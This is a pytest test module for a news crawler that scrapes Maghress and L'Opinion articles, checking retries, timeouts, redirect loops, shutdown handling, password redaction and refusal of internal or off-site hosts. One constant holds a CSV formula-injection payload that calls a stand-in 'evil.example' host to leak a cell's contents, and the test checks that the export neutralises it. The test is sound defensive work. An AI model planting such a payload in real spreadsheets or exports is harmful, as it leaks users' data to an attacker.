"""Faults, crashes, layout changes and hostile links: the crawl rides through and tells what happened."""

from __future__ import annotations

import csv
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from parsel import Selector

from tests.support.fixtureserver import FixtureServer
from newscrawl.extract.assemble import MaghressPage, PublisherPage, build_article
from newscrawl.extract.sites import lopinion, maghress

from .conftest import REPO, SITE, run_crawl

pytestmark = pytest.mark.timeout(300)

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'

# maghress id -> (what its publisher link leads to, the route that makes it fail or not)
PUBLISHER_FAULTS = {
    8000001: ("Flaky_a1.html", {"status": 503, "fail_times": 2}),  # recovers on the 3rd try
    8000002: ("Reset_a2.html", {"reset": True, "fail_times": 1}),  # recovers on the 2nd try
    8000003: ("Short_a3.html", {"truncate": True}),  # never recovers
    8000004: ("Slow_a4.html", {"delay": 4}),  # beyond DOWNLOAD_TIMEOUT, always
    8000005: ("loop-a", None),  # redirect loop
    8000006: ("Big_a6.html", {"pad_bytes": 300_000}),  # over DOWNLOAD_MAXSIZE
    8000007: ("Lying_a7.html", {"charset": "windows-1252", "declare_charset": "utf-8"}),
    8000008: ("Noise_a8.html", {"binary": 4096, "content_type": "text/html"}),
    8000009: ("Empty_a9.html", {"empty": True}),
    8000013: ("{{EVIL}}/Leak_a13.html", None),  # another host: never followed
    8000014: ("Away_a14.html", {"redirect": "{{EVIL}}/Leak_a14.html", "status": 302}),  # redirects off-site
}
RECOVERED = {8000001, 8000002, 8000007}  # publisher data must be there
MAGHRESS_ONLY = {8000003, 8000004, 8000005, 8000006, 8000008, 8000009, 8000013, 8000014}


def _article(maghress_id: int, title: str, link: str | None) -> str:
    link_html = f'<a href="{link}" target="_blank" rel="nofollow">Cliquez ici pour lire l\'article depuis sa source.</a>' if link else ""
    return (f'<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Maghress</title></head><body>{{{{TICKER}}}}'
            f'<div class="col-md-12"><h1><span class="articletitle">{title}</span></h1>'
            f'<span class="articlenewspaper">Publié dans L\'opinion le 09 - 12 - 2025</span>'
            f'<span class="articlecontent"><p>Texte Maghress de l\'article {maghress_id}, assez long pour être un corps.</p>'
            f"</span>{link_html}</div></body></html>")


def _publisher(maghress_id: int) -> str:
    return ('<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>L\'Opinion</title></head><body><div id="z_col1">'
            f'<div class="titre"><h1>Article {maghress_id} : l’été à Fès, déjà</h1></div>'
            '<div class="access">Rédigé par Omar ASSIF le Mardi 9 Décembre 2025</div>'
            f'<div class="texte"><p>Le corps complet de l’article {maghress_id}, écrit à Fès en été.</p></div>'
            "</div></body></html>")


@pytest.fixture(scope="module")
def fault_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("faults")
    (root / "fr" / "lopinion").mkdir(parents=True)
    (root / "robots.txt").write_text("User-agent: *\nAllow: /\n")
    (root / "_ticker.html").write_text('<div class="ticker"><ul></ul></div>')
    routes: dict = {
        "/loop-a": {"redirect": "/loop-b", "status": 302},
        "/loop-b": {"redirect": "/loop-a", "status": 302},
        "/fr/lopinion/8000010": {"status": 503, "fail_times": 1},  # an article page that recovers
        "/fr/lopinion/8000011": {"binary": 2048, "content_type": "text/html"},  # garbage article page
        "/fr/lopinion/8000012": {"empty": True},  # empty article page
    }
    ids = list(range(8000001, 8000015))
    for maghress_id in ids:
        target, route = PUBLISHER_FAULTS.get(maghress_id, (f"Fine_a{maghress_id}.html", None))
        link = target if target.startswith("{{") else f"/{target}"
        if maghress_id == 8000010:
            link = None  # the Maghress title (a hostile one) is the title
        title = HOSTILE_TITLE if maghress_id == 8000010 else f"Article {maghress_id} : titre de Maghress"
        (root / "fr" / "lopinion" / f"{maghress_id}.html").write_text(_article(maghress_id, title, link), "utf-8")
        if not target.startswith(("{{", "loop")):
            (root / target).write_text(_publisher(maghress_id), "utf-8")
        if route:
            routes[f"/{target}"] = route
    items = "".join(f'<li><a href="/fr/lopinion/{i}">Article {i}</a></li>' for i in ids)
    (root / "fr" / "lopinion" / "index.html").write_text(
        f'<html><body>{{{{TICKER}}}}<ul class="articles">{items}</ul></body></html>', "utf-8")
    (root / "_routes.json").write_text(json.dumps(routes))
    # The "evil" host: a second loopback address that must never be asked anything.
    evil_root = tmp_path_factory.mktemp("evil")
    (evil_root / "Leak_a13.html").write_text(_publisher(13))
    (evil_root / "Leak_a14.html").write_text(_publisher(14))
    with FixtureServer(evil_root, host="127.0.0.2") as evil:
        with FixtureServer(root, variables={"EVIL": evil.origin}) as server:
            yield server, evil


@pytest.fixture(scope="module")
def fault_crawl(fault_site, tmp_path_factory):
    server, evil = fault_site
    work = tmp_path_factory.mktemp("fault-crawl")
    result = run_crawl(f"{server.origin}/fr/lopinion", f"sqlite:///{work / 'a.db'}", work, csv=work / "out.csv",
                       settings={"DOWNLOAD_TIMEOUT": "1", "DOWNLOAD_MAXSIZE": "200000", "REDIRECT_MAX_TIMES": "4"})
    with sqlite3.connect(work / "a.db") as conn:
        conn.row_factory = sqlite3.Row
        rows = {r["maghress_id"]: dict(r) for r in conn.execute("SELECT * FROM articles")}
    return result, rows, work


def test_the_crawl_finishes_and_no_traceback_escapes(fault_crawl):
    result, _, _ = fault_crawl
    assert result.returncode == 0, result.log[-3000:]
    assert result.stats["finish_reason"] == "finished"
    assert "Traceback" not in result.log


def test_articles_whose_pages_recover_are_stored_with_publisher_data(fault_crawl):
    _, rows, _ = fault_crawl
    for maghress_id in RECOVERED:
        assert rows[maghress_id]["authors"] == '["Omar ASSIF"]', maghress_id
        assert rows[maghress_id]["title"] == f"Article {maghress_id} : l'été à Fès, déjà"
    assert rows[8000007]["body"] == "Le corps complet de l’article 8000007, écrit à Fès en été."  # charset repaired
    assert 8000010 in rows  # its article page answered 503 once


def test_articles_whose_publisher_page_never_answers_are_stored_from_maghress(fault_crawl):
    _, rows, _ = fault_crawl
    for maghress_id in MAGHRESS_ONLY:
        row = rows[maghress_id]
        assert row["title"] == f"Article {maghress_id} : titre de Maghress", maghress_id
        assert row["body"].startswith(f"Texte Maghress de l'article {maghress_id}")
        assert row["authors"] == "[]"
    # Pages that are not articles at all are not stored.
    assert 8000011 not in rows and 8000012 not in rows


def test_each_failure_is_counted_under_a_clear_name(fault_crawl):
    stats = fault_crawl[0].stats
    assert stats["retry/reason_count/503 Service Unavailable"] >= 3
    assert stats["newscrawl/encoding/repaired"] == 1
    assert stats["newscrawl/source/not_html"] == 1  # binary publisher page
    assert stats["newscrawl/article/not_html"] == 1  # binary article page
    assert stats["newscrawl/dropped/missing_title"] == 1  # the empty article page
    assert stats["newscrawl/source/refused_host"] == 1
    failed = {k: v for k, v in stats.items() if k.startswith("newscrawl/source/failed/")}
    assert failed == {
        "newscrawl/source/failed/ResponseDataLossError": 1,  # truncated body
        "newscrawl/source/failed/DownloadTimeoutError": 1,  # slower than DOWNLOAD_TIMEOUT
        "newscrawl/source/failed/DownloadCancelledError": 1,  # over DOWNLOAD_MAXSIZE
        "newscrawl/source/failed/IgnoreRequest": 2,  # redirect loop; redirect to another host
    }
    assert stats["newscrawl/capped/download_too_large"] == 1


def test_hostile_links_are_never_followed(fault_site, fault_crawl):
    _, evil = fault_site
    assert evil.requests == []
    stats = fault_crawl[0].stats
    # The publisher page that redirects to the other host (its robots.txt, asked first, is refused too).
    assert stats["newscrawl/refused/request"] >= 1


def test_csv_neutralises_formulas_and_the_database_keeps_the_text(fault_crawl):
    _, rows, work = fault_crawl
    with (work / "out.csv").open(encoding="utf-8") as f:
        titles = {int(r["maghress_id"]): r["title"] for r in csv.DictReader(f)}
    assert titles[8000010] == "'" + HOSTILE_TITLE
    assert rows[8000010]["title"] == HOSTILE_TITLE


def test_sigint_stops_gracefully_and_commits_the_pending_batch(tmp_path):
    db = tmp_path / "a.db"
    stats_file = tmp_path / "stats.json"
    with FixtureServer(SITE, delay=0.4) as slow:
        proc = subprocess.Popen(
            [sys.executable, "-m", "scrapy", "crawl", "lopinion", "-a", f"start_url={slow.origin}/fr/lopinion",
             "-s", f"NEWSCRAWL_DATABASE_URL=sqlite:///{db}", "-s", "AUTOTHROTTLE_ENABLED=False",
             "-s", "NEWSCRAWL_STORE_BATCH_SIZE=1000", "-s", "NEWSCRAWL_STORE_FLUSH_SECONDS=600",
             "-s", f"NEWSCRAWL_STATS_FILE={stats_file}", "-s", "CONCURRENT_REQUESTS=2"],
            cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
            env={**os.environ, "NEWSCRAWL_DATA_DIR": str(tmp_path / "data")})
        # Once a few publisher pages have been served, some articles sit in the unwritten batch.
        deadline = time.time() + 60
        while time.time() < deadline and sum(1 for p in slow.requests if not p.startswith(("/fr/", "/robots"))) < 3:
            time.sleep(0.05)
        time.sleep(0.5)
        proc.send_signal(signal.SIGINT)
        out, _ = proc.communicate(timeout=60)
    stats = json.loads(stats_file.read_text())
    assert stats["finish_reason"] == "shutdown"
    scraped = stats.get("item_scraped_count", 0)
    assert scraped >= 1
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM articles").fetchone()[0] == scraped  # nothing buffered is lost


def test_layout_change_alarm_names_the_field_and_fails_the_run(site_copy, tmp_path):
    # The site "changes": Maghress renames its body and title classes.
    for page in (site_copy / "fr" / "lopinion").glob("50100*.html"):
        text = page.read_text("utf-8").replace("articlecontent", "article-body").replace("articletitle", "article-title")
        page.write_text(text, "utf-8")
    with FixtureServer(site_copy) as server:
        result = run_crawl(f"{server.origin}/fr/lopinion", f"sqlite:///{tmp_path / 'a.db'}", tmp_path,
                           args={"follow_source": "false"})
    assert result.returncode == 3
    assert result.stats["finish_reason"].startswith("alarm")
    assert "Layout-change alarm: body in 0% of" in result.log
    assert "span.articlecontent → og:description" in result.log
    assert result.stats["newscrawl/coverage/body"] == 0.0


def test_a_crawl_that_stores_nothing_from_answering_pages_raises_the_alarm(site_copy, tmp_path):
    for page in (site_copy / "fr" / "lopinion").glob("50100*.html"):
        page.write_text("<html><body><p>Page vide</p></body></html>", "utf-8")
    with FixtureServer(site_copy) as server:
        result = run_crawl(f"{server.origin}/fr/lopinion", f"sqlite:///{tmp_path / 'a.db'}", tmp_path)
    assert result.returncode == 3 and "alarm: nothing" in result.stats["finish_reason"]


def test_passwords_never_reach_the_log_or_the_stats(site_server, tmp_path, postgresql_admin_url):
    from .servers import create_database

    url = create_database(postgresql_admin_url, "secrets")
    with_password = url.replace("postgresql://postgres@", "postgresql://postgres:Sup3rS3cretPw@")
    result = run_crawl(f"{site_server.origin}/fr/lopinion", with_password, tmp_path, args={"max_pages": 1})
    assert result.returncode == 0, result.log[-2000:]
    assert "Sup3rS3cretPw" not in result.log
    assert "Sup3rS3cretPw" not in json.dumps(result.stats)
    assert "postgres:***@" in result.log


_html = st.recursive(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40),
    lambda inner: st.builds(
        lambda tag, cls, kids: f'<{tag} class="{cls}">{"".join(kids)}</{tag}>',
        st.sampled_from(["div", "span", "p", "a", "h1", "script", "noscript", "meta", "br", "em"]),
        st.sampled_from(["articletitle", "articlenewspaper", "articlecontent", "titre", "texte", "chapeau", "ticker", "x"]),
        st.lists(inner, max_size=4),
    ),
    max_leaves=20,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_html)
def test_fuzzed_html_never_breaks_the_parsers_or_the_loader(markup):
    page = Selector(text=f"<html><head></head><body>{markup}</body></html>")
    raw = maghress.parse_article(page, "http://127.0.0.1:8000/fr/lopinion/1")
    publisher = lopinion.PARSER.parse_article(page, "http://127.0.0.1:8000/A_a1.html")
    entries = maghress.listing_entries(page, "http://127.0.0.1:8000/fr/lopinion", "lopinion")
    ticker = maghress.ticker_links(page, "http://127.0.0.1:8000/fr/lopinion")
    raw["url"] = "http://127.0.0.1:8000/fr/lopinion/1"
    article = build_article(MaghressPage.from_raw(raw), PublisherPage.from_raw(publisher, "lopinion", "http://127.0.0.1:8000/A_a1.html"))
    # Whatever the markup: raw values of the right types, and an article whose text fields are clean text.
    assert (raw["maghress_id"], raw["source"]) == (1, "lopinion")
    assert isinstance(raw["title"], str) and all(isinstance(p, str) and p for p in raw["body"])
    assert all(e.ref.source == "lopinion" for e in entries) and all(e.ref.key for e in ticker)
    assert article["url"] == raw["url"] and article["maghress_id"] == 1 and article["scraped_at"]
    for name in ("title", "lead", "body", "source_name"):
        value = article.get(name) or ""
        assert value == value.strip() and "  " not in value.replace("\n\n", " ")
        assert not any(ord(c) < 32 and c != "\n" for c in value)
    assert article.get("published_date") is None or len(article["published_date"]) == 10


# -- a crawl that reached nothing says so ---------------------------------------------------------------


def test_a_crawl_that_cannot_reach_the_site_fails_with_one_line_per_source(tmp_path):
    from .servers import free_port

    nowhere = f"http://127.0.0.1:{free_port()}"  # nothing listens there: every request is refused
    result = run_crawl(nowhere, f"sqlite:///{tmp_path / 'a.db'}", tmp_path, spider="maghress",
                       args={"sources": "lopinion,lematin"}, settings={"RETRY_TIMES": "0"})
    assert result.returncode == 5, result.log[-3000:]
    lines = [line for line in result.log.splitlines() if "Unreachable:" in line]
    assert any("lopinion: no listing page could be fetched" in line and "ConnectionRefused" in line for line in lines)
    assert any("lematin: no listing page could be fetched" in line for line in lines)
    assert any("the whole run: no request got an answer" in line for line in lines)
    assert "right Maghress section" not in result.log  # a refused connection says nothing of the slug
    assert len(result.stats["newscrawl/unreachable"]) == 3


def test_a_publisher_name_that_resolves_to_an_internal_address_is_never_fetched(site_copy, tmp_path):
    """A publisher host whose DNS record points inside: refused when resolved, at connection time.
    ("localhost" stands for such a name: the resolver maps it to 127.0.0.1, the fixture server's address.)"""
    from .support.mirrors import add_listing_entry, maghress_article

    (site_copy / "fr" / "lopinion" / "5010050.html").write_text(maghress_article(
        "Un éditeur dont le nom mène à l'intérieur", "<p>Le corps sur Maghress.</p>",
        source_link="http://localhost:{{PORT}}/Inside_a50.html"), "utf-8")
    add_listing_entry(site_copy, "lopinion", '<li><a href="/fr/lopinion/5010050">Un éditeur</a></li>')
    (site_copy / "Inside_a50.html").write_text("<html><body><h1>Ne doit pas être lu</h1></body></html>", "utf-8")
    server = FixtureServer(site_copy)
    server.variables["PORT"] = str(server.server_address[1])
    with server:
        result = run_crawl(f"{server.origin}/fr/lopinion", f"sqlite:///{tmp_path / 'a.db'}", tmp_path,
                           settings={"NEWSCRAWL_PUBLISHER_HOSTS": "localhost"})
        assert "/Inside_a50.html" not in server.requests
    assert result.returncode == 0, result.log[-3000:]
    assert result.stats["newscrawl/refused/internal_address"] >= 1
    assert "Refused localhost: it resolves to 127.0.0.1, an internal address" in result.log
    with sqlite3.connect(tmp_path / "a.db") as conn:
        assert conn.execute("SELECT body FROM articles WHERE maghress_id = 5010050").fetchone() == (
            "Le corps sur Maghress.",)


def test_a_crawl_that_cannot_open_its_database_fails_with_its_own_exit_code_and_no_secret(tmp_path):
    import socket

    with socket.socket() as closed:  # a port nothing listens on
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    url = f"postgresql://newscrawl:userinfo-secret@127.0.0.1:{port}/archive?password=query-secret"
    with FixtureServer(SITE) as server:
        result = run_crawl(f"{server.origin}/fr/lopinion", url, tmp_path)
        assert server.requests == []  # nothing fetched for an archive that cannot be written
    assert result.returncode == 6, result.log[-3000:]
    assert result.stats["finish_reason"] == "start_error"
    assert "secret" not in result.log
